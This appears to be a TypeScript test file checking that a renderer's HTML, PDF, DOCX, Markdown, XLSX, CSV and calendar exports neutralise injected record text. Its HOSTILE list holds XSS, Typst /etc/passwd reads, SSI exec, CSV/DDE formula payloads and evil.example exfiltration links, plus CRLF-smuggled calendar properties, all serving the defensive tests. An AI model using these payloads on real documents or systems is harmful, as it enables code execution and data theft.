import { inflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutralise, restore } from '#kernel/formulas.ts';
import { tableText } from '#ui/copy-table.ts';
import { csvOf } from '#ui/csv.ts';
import { fromCsv, toCsv } from './csv.ts';
import { toIcalendar } from './icalendar.ts';
import { render } from './render.ts';
import type { DocumentTree } from './tree.ts';

/** What somebody writes into a record so that it does something in a document that another person opens. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</w:t></w:r><w:r><w:t>', // DOCX
  '<!--#exec cmd="id"-->',
  '#read("/etc/passwd")', // Typst
  '"); #read("/etc/passwd") #("',
  '#import "/etc/passwd": *',
  '\\", #panic("x"), "',
  '$ #sys.version $',
  ']#eval("1+1")[',
  '`raw` *bold* _it_ @label <label>',
  '[link](javascript:alert(1))',
  '![x](https://evil.example/t.png)',
  '<javascript:alert(1)>',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '&#61;1+1',
  '_x003D_1+1',
  ']]>',
  '\u0000\u0001\u001b[31m',
];

const tree = (texts: readonly string[]): DocumentTree => ({
  title: texts.join(' '),
  subtitle: texts[0]!,
  organisation: texts.join(' '),
  register: texts[0]!,
  language: 'en',
  version: texts[0]!,
  createdAt: '2026-11-24T09:00:00.000Z',
  checkpoint: texts.join('\n'),
  sections: texts.flatMap((text) => [
    { kind: 'heading' as const, level: 1 as const, text },
    { kind: 'paragraph' as const, text },
    { kind: 'list' as const, items: [text, text] },
    { kind: 'keyValues' as const, entries: [{ key: text, value: text }] },
    {
      kind: 'table' as const,
      title: text,
      columns: [
        { key: 'a', title: text, width: 1 },
        { key: 'b', title: 'B', width: 1 },
      ],
      rows: [{ a: text, b: text }],
    },
  ]),
});

describe('text of a record is text in every document', () => {
  test('HTML: not one tag, attribute or address that we did not write', async () => {
    const html = Buffer.from((await render(tree(HOSTILE), 'html')).bytes).toString();
    const tags = new Set([...html.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map(([, name]) => name!.toLowerCase()));
    expect([...tags].sort()).toEqual(
      [
        'body',
        'br',
        'caption',
        'dd',
        'dl',
        'dt',
        'h1',
        'h2',
        'head',
        'header',
        'html',
        'li',
        'main',
        'meta',
        'p',
        'pre',
        'style',
        'table',
        'tbody',
        'td',
        'th',
        'thead',
        'title',
        'tr',
        'ul',
      ].sort(),
    );
    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi))
      expect(tag).not.toMatch(/\son\w+\s*=|javascript:|src=|href=/i);
    expect(html).not.toContain('<!--');
  });

  test('PDF: the typesetter reads no file and runs no markup of it', async () => {
    // A file that were read, or an error of the markup, would stop it or stand in it.
    const { bytes } = await render(tree(HOSTILE), 'pdf');
    expect(Buffer.from(bytes.subarray(0, 5)).toString()).toBe('%PDF-');
    const all = Buffer.from(bytes).toString('latin1');
    for (const action of ['/JavaScript', '/JS', '/Launch', '/OpenAction', '/EmbeddedFile', '/URI'])
      expect(all).not.toMatch(new RegExp(`${action}\\b`));
    // The same document without the hostile words has as many kinds of objects: nothing was added.
    await expect(render(tree(HOSTILE.map((_, i) => `word ${i}`)), 'pdf')).resolves.toBeDefined();
  });

  test('PDF: a text that reads a file is set as these very letters', async () => {
    const short = async (text: string) =>
      (await render({ ...tree(['x']), title: text }, 'pdf')).bytes.byteLength;
    // /etc/passwd set as text would be far longer than its name.
    expect(
      Math.abs((await short('#read("/etc/passwd")')) - (await short('xread(x/etc/passwdx)'))),
    ).toBeLessThan(3000);
  });

  test('DOCX: every paragraph is one that we made, and no field or link is among them', async () => {
    const { bytes } = await render(tree(HOSTILE), 'docx');
    const xml = entry(Buffer.from(bytes), 'word/document.xml');
    expect(xml).not.toMatch(/<w:(?:hyperlink|fldSimple|instrText|object)\b/);
    expect(xml).not.toMatch(/<(?:script|img)\b/);
    const count = (text: string, tag: string) => text.split(`<${tag}`).length;
    const plain = await render(tree(HOSTILE.map((each) => each.replace(/[^\n]/g, 'x'))), 'docx');
    expect(count(xml, 'w:tbl>')).toBe(count(entry(Buffer.from(plain.bytes), 'word/document.xml'), 'w:tbl>'));
  });

  test('Markdown: no link, no picture, no tag', async () => {
    const text = Buffer.from((await render(tree(HOSTILE), 'md')).bytes).toString();
    const outsideCode = text.split('```')[0]!;
    expect(outsideCode).not.toMatch(/(?<!\\)\]\(/);
    expect(outsideCode.replaceAll('<br>', '')).not.toMatch(/(?<!\\)<[a-z!/]/i);
  });

  test('XLSX: every cell is text, no formula, no link', async () => {
    const { bytes } = await render(tree(HOSTILE), 'xlsx');
    const names = namesOf(Buffer.from(bytes)).filter((name) => /worksheets\/sheet\d+\.xml$/.test(name));
    expect(names.length).toBeGreaterThan(1);
    for (const name of names) expect(entry(Buffer.from(bytes), name)).not.toMatch(/<f[ >]|hyperlink/i);
    const shared = namesOf(Buffer.from(bytes)).includes('xl/sharedStrings.xml')
      ? entry(Buffer.from(bytes), 'xl/sharedStrings.xml')
      : names.map((name) => entry(Buffer.from(bytes), name)).join('');
    for (const [, text] of shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g))
      expect(text).not.toMatch(/^[=+\-@\uff1d\uff0b]/);
  });

  test('a calendar: no line of it begins a property', () => {
    const text = toIcalendar({
      name: HOSTILE.join('\r\n'),
      now: '2026-11-24T09:00:00.000Z',
      domain: 'x\r\nATTACH:https://evil.example',
      events: [
        {
          uid: 'a\r\nATTACH:https://evil.example',
          title: 'x\r\nATTACH:https://evil.example',
          text: 'y\nBEGIN:VALARM\nACTION:AUDIO',
          url: 'https://example.org/\r\nATTACH:https://evil.example',
          categories: ['z\nATTENDEE:mailto:x@evil.example'],
          when: { day: '2026-11-24' },
        },
      ],
    });
    expect(text).not.toMatch(/^(?:ATTACH|BEGIN:VALARM|ACTION|ATTENDEE)/m);
  });
});

describe('no cell that leaves here is run by a spreadsheet', () => {
  const runs = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

  test('CSV: neither in the cells nor in the heads, and it comes back as it was', () => {
    const bytes = toCsv(HOSTILE, [HOSTILE]);
    const { columns, rows } = fromCsv(bytes);
    expect(rows[0]!.map(neutralise).filter((cell) => runs.test(cell))).toEqual([]);
    expect(columns).toEqual(HOSTILE);
    const text = Buffer.from(bytes).toString('utf8').slice(1);
    for (const cell of text.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\uff1d]/);
  });

  test('what the browser copies and saves', () => {
    for (const cell of tableText([HOSTILE]).split('\t')) expect(cell).not.toMatch(runs);
    for (const each of HOSTILE) expect(csvOf([[each]]).replace(/^"/, '')).not.toMatch(runs);
  });

  test('making it harmless and taking that back gives every text as it was', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom(...HOSTILE).map((text) => `'${text}`),
        ),
        (text) => {
          expect(restore(neutralise(text))).toBe(text);
          expect(neutralise(text)).not.toMatch(runs);
        },
      ),
    );
  });
});

type Listed = {
  readonly name: string;
  readonly at: number;
  readonly packed: number;
  readonly method: number;
};

function listed(zip: Buffer): readonly Listed[] {
  const found: Listed[] = [];
  const end = zip.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'));
  let at = zip.readUInt32LE(end + 16);
  while (zip.readUInt32LE(at) === 0x02014b50) {
    const name = zip.toString('utf8', at + 46, at + 46 + zip.readUInt16LE(at + 28));
    found.push({
      name,
      at: zip.readUInt32LE(at + 42),
      packed: zip.readUInt32LE(at + 20),
      method: zip.readUInt16LE(at + 10),
    });
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return found;
}

const namesOf = (zip: Buffer) => listed(zip).map(({ name }) => name);

function entry(zip: Buffer, name: string): string {
  const { at, packed, method } = listed(zip).find((each) => each.name === name)!;
  const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
  const content = zip.subarray(start, start + packed);
  return (method === 8 ? inflateRawSync(content) : content).toString('utf8');
}
